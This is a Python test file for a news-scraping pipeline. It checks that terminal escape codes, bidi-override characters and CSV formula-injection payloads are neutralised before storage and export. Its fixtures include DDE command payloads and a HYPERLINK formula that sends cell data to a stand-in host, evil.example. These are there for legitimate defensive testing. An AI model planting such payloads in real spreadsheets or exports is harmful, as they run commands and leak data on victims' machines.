"""Scraped text that attacks its readers: control and bidi characters, spreadsheet formulas.

Control characters are removed where articles are processed (so the store,
the page, exports and terminals never see them); CSV cells that a spreadsheet
would run as formulas are quoted, and cells are cut at Excel's limit.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest
from newswatch.pipeline.page import FetchedPage
from newswatch.pipeline.sanitize import clean_line, clean_text
from newswatch.pipeline.store.database import open_database
from newswatch.pipeline.store.queue import ReviewQueue
from newswatch.scheduler.cli import main
from newswatch.scheduler.export import EXCEL_CELL_LIMIT
from newswatch.scheduler.wiring import load

from tests.support.site import SITE_WWW
from tests.support.web import filler, store, write_config

ARTICLE = SITE_WWW / "sz/yw/202206/t20220628_7596302.shtml"
ARTICLE_URL = "https://www.xhby.net/sz/yw/202206/t20220628_7596302.shtml"
# ESC (as a character reference), a raw C1 CSI, RIGHT-TO-LEFT OVERRIDE, an
# isolate and a raw SOH: all invisible or worse on a screen.
HOSTILE = "&#27;[2J\u009b31m&#8238;fdp.exe\u2066\x01"
CONTROLS = ("\x1b", "\x9b", "\u202e", "\u2066", "\x01")


def hostile_page() -> bytes:
    html = ARTICLE.read_text(encoding="utf-8")
    html = html.replace("苏州成功举办第二届", f"苏州成功{HOSTILE}举办第二届")
    html = html.replace("6月28日下午,", f"6月28日下午,{HOSTILE}")
    return html.encode("utf-8")


def test_clean_text_keeps_newlines_and_tabs_only() -> None:
    assert clean_text("a\x1b[31mb\r\n\tc\x85d\u202ee\u2069f\x7f") == "a[31mb\n\tcdef"
    assert clean_line(" 标题\n第二行\t\x07") == "标题 第二行"
    assert clean_text("社会组织 “红社发布”——苏州。") == "社会组织 “红社发布”——苏州。"


def test_control_characters_never_reach_the_store(tmp_path: Path) -> None:
    setup = load(write_config(tmp_path), f"sqlite:///{tmp_path / 'nw.db'}")
    try:
        page = FetchedPage(ARTICLE_URL, hostile_page(), "xhby-suzhou-trs")
        outcome = setup.processor().process(page)
        assert outcome.status == "stored", outcome
        stored = ReviewQueue(setup.db).get(outcome.article_id or 0)
    finally:
        setup.db.dispose()
    assert stored.title.startswith("“八项发布”赋能社会组织,苏州成功[2J31mfdp.exe举办第二届")
    assert "6月28日下午,[2J31mfdp.exe苏州市社会组织党委" in stored.text
    assert "\n" in stored.text  # paragraphs kept
    for char in CONTROLS:
        assert char not in stored.title and char not in stored.text, repr(char)


def test_extract_json_for_the_terminal_has_no_controls(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    page = tmp_path / "page.html"
    page.write_bytes(hostile_page())
    assert main(["extract", str(page), "--url", ARTICLE_URL, "--json"]) == 0
    out = capsys.readouterr().out
    data = json.loads(out)
    assert "fdp.exe" in data["title"]
    for char in CONTROLS:
        assert char not in out and json.dumps(char).strip('"') not in out, repr(char)


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"社会组织")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def test_csv_cells_never_run_as_formulas_and_fit_excel(tmp_path: Path) -> None:
    db_url = f"sqlite:///{tmp_path / 'nw.db'}"
    config = write_config(tmp_path)
    db = open_database(db_url)
    try:
        for n, title in enumerate(FORMULAS):
            store(db, title, filler(n), url=f"https://x.cn/{n}.html")
        huge = "社会组织" + filler(99, 40_000)  # over the limit; the issue saw 1.6 million
        store(db, "全文很长的社会组织新闻", huge, url="https://x.cn/huge.html")
    finally:
        db.dispose()
    out = tmp_path / "queue.csv"

    code = main(
        ["export", "--format", "csv", "-o", str(out), "--config", str(config), "--db", db_url]
    )

    assert code == 0
    rows = list(csv.DictReader(out.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    titles = {row["title"] for row in rows}
    for formula in FORMULAS:
        assert ("'" + clean_text(formula)) in titles, formula
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
            assert len(value) <= EXCEL_CELL_LIMIT
    long_text = next(row["text"] for row in rows if row["title"] == "全文很长的社会组织新闻")
    assert len(long_text) == EXCEL_CELL_LIMIT
    assert long_text.startswith(huge[:1000])
    assert long_text.endswith(f"［已截断：原文共 {len(huge)} 字，完整内容见 JSON 导出］")
